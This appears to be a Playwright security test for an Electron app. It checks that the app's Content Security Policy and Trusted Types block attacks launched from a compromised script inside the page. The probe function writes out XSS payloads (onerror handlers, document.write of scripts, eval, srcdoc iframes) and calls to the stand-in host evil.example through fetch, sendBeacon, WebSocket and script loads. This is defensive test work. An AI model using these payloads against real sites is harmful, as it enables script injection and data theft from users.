import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { expect, test } from '@playwright/test';
import { rendererFiles } from '../../electron/app/rendererFiles.ts';

/*
 * The files exactly as the desktop window and the seat host serve them, to a real browser engine of the same version:
 * the built screens run under the policy without breaking it, and what an attacker would try from inside does not work.
 */
const root = resolve(import.meta.dirname, '../..');
/** The built screens, and the same with a script of ours that has turned against us in place of the application. */
const folders = { screens: '', probe: '' };
const servers: Server[] = [];
const origins = { screens: '', probe: '' };
/** Requests that reached something other than the app. */
const strayed: string[] = [];

test.beforeAll(async () => {
  for (const which of ['screens', 'probe'] as const) {
    const folder = mkdtempSync(join(tmpdir(), `beredt-${which}-`));
    folders[which] = folder;
    cpSync(join(root, 'dist', 'renderer'), folder, { recursive: true });
    if (which === 'probe') {
      const html = readFileSync(join(folder, 'index.html'), 'utf8');
      writeFileSync(join(folder, 'probe.js'), `(${probe.toString()})();`);
      writeFileSync(
        join(folder, 'index.html'),
        html.replace(/<script type="module"[^>]*><\/script>/, '<script defer src="/probe.js"></script>'),
      );
    }
    origins[which] = await serve(folder);
  }
});
test.afterAll(() => {
  for (const server of servers) server.close();
  for (const folder of Object.values(folders)) rmSync(folder, { recursive: true, force: true });
});

async function serve(folder: string): Promise<string> {
  const files = rendererFiles(folder);
  const server = createServer((request, response) => {
    const { pathname } = new URL(request.url ?? '/', 'http://app');
    const reply = files(request.method ?? 'GET', pathname);
    response.writeHead(reply.status, reply.headers).end(reply.body);
  });
  servers.push(server);
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

test.beforeEach(async ({ page }) => {
  strayed.length = 0;
  // Only what the engine really sends out comes by here; what the policy stops does not.
  await page.route(
    (url) => !Object.values(origins).includes(url.origin) && !['blob:', 'data:'].includes(url.protocol),
    async (route) => {
      strayed.push(route.request().url());
      await route.abort();
    },
  );
  await page.addInitScript(() => {
    const broken: string[] = [];
    Object.assign(window, { broken });
    document.addEventListener('securitypolicyviolation', (event) => {
      broken.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
    });
  });
});

test('the built screens live under the policy, and ask nobody else for anything', async ({ page }) => {
  const complaints: string[] = [];
  page.on('console', (message) => {
    if (/polic|Trusted|Permissions/i.test(message.text())) complaints.push(message.text());
  });
  await page.goto(`${origins.screens}/`);
  await expect(page.locator('#root')).not.toBeEmpty();
  expect(await page.evaluate(() => (window as unknown as { broken: string[] }).broken)).toEqual([]);
  expect(complaints).toEqual([]);
  expect(strayed).toEqual([]);
  expect(await page.evaluate(() => window.crossOriginIsolated || window.isSecureContext)).toBe(true);
});

test('nothing an attacker tries from inside the page works', async ({ page }) => {
  await page.goto(`${origins.probe}/`);
  await page.waitForFunction(() => 'outcome' in window);
  const outcome = await page.evaluate(() => (window as unknown as { outcome: Record<string, string> }).outcome);
  const worked = Object.entries(outcome).filter(([, result]) => result === 'worked');
  expect(worked).toEqual([]);
  expect(Object.keys(outcome).length).toBeGreaterThanOrEqual(17);
  expect(strayed).toEqual([]);
});

test('what the app itself needs still works', async ({ page }) => {
  await page.goto(`${origins.probe}/`);
  await page.waitForFunction(() => 'outcome' in window);
  const needed = await page.evaluate(() => (window as unknown as { needed: Record<string, string> }).needed);
  expect(needed).toEqual({ cssom: 'worked', nonceStyle: 'worked', blobImage: 'worked', ownFile: 'worked' });
});

/** Runs in the page, as a script file of the app's own: what a flaw in one of our own scripts could do. */
function probe(): void {
  const outcome: Record<string, string> = {};
  const needed: Record<string, string> = {};
  const settle = (
    kept: Record<string, string>,
    name: string,
    work: () => boolean | Promise<boolean>,
  ): Promise<void> =>
    Promise.resolve()
      .then(work)
      .then(
        (worked) => void (kept[name] = worked ? 'worked' : 'stopped'),
        () => void (kept[name] = 'stopped'),
      );
  // By name, because our own lint rules forbid even the attempt.
  const named = (owner: object, name: string) => {
    const found: unknown = Reflect.get(owner, name);
    return found as (...args: readonly string[]) => unknown;
  };
  const ran = () => 'pwned' in window;
  const later = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));
  const add = (tag: string, set: (element: HTMLElement) => void) => {
    const element = document.createElement(tag);
    set(element);
    document.body.append(element);
    return element;
  };
  const loads = (tag: string, attribute: string, value: string) =>
    new Promise<boolean>((resolve) => {
      add(tag, (element) => {
        element.addEventListener('load', () => {
          resolve(true);
        });
        element.addEventListener('error', () => {
          resolve(false);
        });
        element.setAttribute(attribute, value);
      });
      setTimeout(() => {
        resolve(false);
      }, 800);
    });
  const red = (element: Element) => getComputedStyle(element).color === 'rgb(255, 0, 0)';
  const attacks: Record<string, () => boolean | Promise<boolean>> = {
    innerHtml: () => {
      add('div', (element) => (element.innerHTML = '<img src=x onerror="window.pwned=1">'));
      return true;
    },
    adjacentHtml: () => {
      document.body.insertAdjacentHTML('beforeend', '<b>x</b>');
      return true;
    },
    parsedHtml: () => new DOMParser().parseFromString('<b>x</b>', 'text/html').body.children.length > 0,
    documentWrite: () => {
      named(document, 'write').call(document, '<script>window.pwned=1</script>');
      return ran();
    },
    evaluated: () => named(window, 'eval')('1+1') === 2,
    functionMade: () => (named(window, 'Function')('return 2') as () => number)() === 2,
    timerText: async () => {
      (setTimeout as unknown as (code: string) => void)('window.pwned=1');
      await later(50);
      return ran();
    },
    inlineScript: () => {
      add('script', (element) => (element.textContent = 'window.pwned=1'));
      return ran();
    },
    inlineHandler: () => {
      const element = add('button', (button) => {
        button.setAttribute('onclick', 'window.pwned=1');
      });
      element.click();
      return ran();
    },
    foreignScript: () => loads('script', 'src', 'https://evil.example/x.js'),
    dataScript: () => loads('script', 'src', 'data:text/javascript,window.pwned=1'),
    foreignStyle: () => loads('link', 'href', 'https://evil.example/x.css'),
    inlineStyle: () => {
      add('style', (element) => (element.textContent = '.probe-inline { color: rgb(255, 0, 0) }'));
      return red(add('p', (element) => (element.className = 'probe-inline')));
    },
    styleAttribute: () =>
      red(
        add('p', (element) => {
          element.setAttribute('style', 'color: rgb(255, 0, 0)');
        }),
      ),
    foreignImage: () => loads('img', 'src', 'https://evil.example/x.png'),
    frame: async () => {
      const frame = add('iframe', (element) => {
        element.setAttribute('srcdoc', '<script>parent.pwned=1</script>');
      });
      await later(100);
      return ran() || (frame as HTMLIFrameElement).contentDocument?.querySelector('script') !== null;
    },
    foreignFetch: () => fetch('https://evil.example/', { mode: 'no-cors' }).then(() => true),
    beacon: async () => {
      let refused = false;
      document.addEventListener('securitypolicyviolation', (event) => {
        if (event.blockedURI.includes('beacon')) refused = true;
      });
      navigator.sendBeacon('https://evil.example/beacon', 'x');
      await later(50);
      return !refused;
    },
    foreignSocket: () =>
      new Promise((resolve) => {
        const socket = new WebSocket('wss://evil.example/');
        socket.onopen = () => {
          resolve(true);
        };
        socket.onerror = () => {
          resolve(false);
        };
      }),
    blobWorker: () => {
      new Worker(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' })));
      return true;
    },
    changedBase: () => {
      add('base', (element) => {
        element.setAttribute('href', 'https://evil.example/');
      });
      return document.baseURI.includes('evil');
    },
    policyOfItsOwn: () => {
      const factory = (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } })
        .trustedTypes;
      factory.createPolicy('evil', { createHTML: (text: string) => text });
      return true;
    },
  };
  const needs: Record<string, () => boolean | Promise<boolean>> = {
    cssom: () => red(add('p', (element) => (element.style.color = 'rgb(255, 0, 0)'))),
    nonceStyle: () => {
      add('style', (element) => {
        element.nonce = document.querySelector<HTMLMetaElement>('meta[property="csp-nonce"]')?.nonce ?? '';
        element.textContent = '.probe-nonce { color: rgb(255, 0, 0) }';
      });
      return red(add('p', (element) => (element.className = 'probe-nonce')));
    },
    blobImage: () =>
      loads(
        'img',
        'src',
        URL.createObjectURL(new Blob(['<svg xmlns="http://www.w3.org/2000/svg"/>'], { type: 'image/svg+xml' })),
      ),
    ownFile: () => fetch('/caret.svg').then((response) => response.ok),
  };
  void Promise.all([
    ...Object.entries(attacks).map(([name, work]) => settle(outcome, name, work)),
    ...Object.entries(needs).map(([name, work]) => settle(needed, name, work)),
  ]).then(() => Object.assign(window, { outcome, needed }));
}
